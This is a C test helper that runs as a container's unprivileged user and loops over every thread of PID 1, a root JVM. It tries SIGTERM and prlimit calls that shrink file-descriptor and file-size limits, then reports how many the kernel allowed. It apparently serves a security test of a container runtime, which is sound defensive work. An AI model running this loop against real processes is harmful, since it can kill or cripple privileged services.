/*
 * Runs inside a container as the container's user and attacks its init (PID 1, a root JVM) for as long as
 * the file named by argv[1] does not exist: it reads /proc/1/task/ST/status of every thread and, on every
 * pass, tries kill(SIGTERM) and prlimit (RLIMIT_NOFILE and RLIMIT_FSIZE) on every thread. The kernel judges
 * both against the target thread's credentials, so any thread of the init that holds the user's uid, however
 * briefly, is a way in. Prints what it saw and what the kernel let through:
 *   "passes=N seen=N kills=N prlimits=N"
 * Built statically by the test (gcc -static) and copied into the root filesystem.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: init-attacker STOPFILE\n");
        return 2;
    }
    uid_t me = getuid();
    long passes = 0, seen = 0, kills = 0, prlimits = 0;
    struct rlimit tiny_nofile = {16, 16}, tiny_fsize = {1, 1};
    char path[64], buf[4096];
    while (access(argv[1], F_OK) != 0) {
        passes++;
        DIR *d = opendir("/proc/1/task");
        if (d == NULL) break; /* the init is gone */
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
            if (e->d_name[0] == '.') continue;
            pid_t tid = atoi(e->d_name);
            snprintf(path, sizeof path, "/proc/1/task/%d/status", tid);
            FILE *f = fopen(path, "r");
            if (f != NULL) {
                size_t n = fread(buf, 1, sizeof buf - 1, f);
                buf[n] = 0;
                fclose(f);
                char *uid = strstr(buf, "\nUid:");
                if (uid != NULL && (uid_t) strtol(uid + 5, NULL, 10) == me) seen++;
            }
            if (prlimit(tid, RLIMIT_NOFILE, &tiny_nofile, NULL) == 0) prlimits++;
            if (prlimit(tid, RLIMIT_FSIZE, &tiny_fsize, NULL) == 0) prlimits++;
            if (kill(tid, SIGTERM) == 0) kills++;
        }
        closedir(d);
    }
    printf("passes=%ld seen=%ld kills=%ld prlimits=%ld\n", passes, seen, kills, prlimits);
    return 0;
}
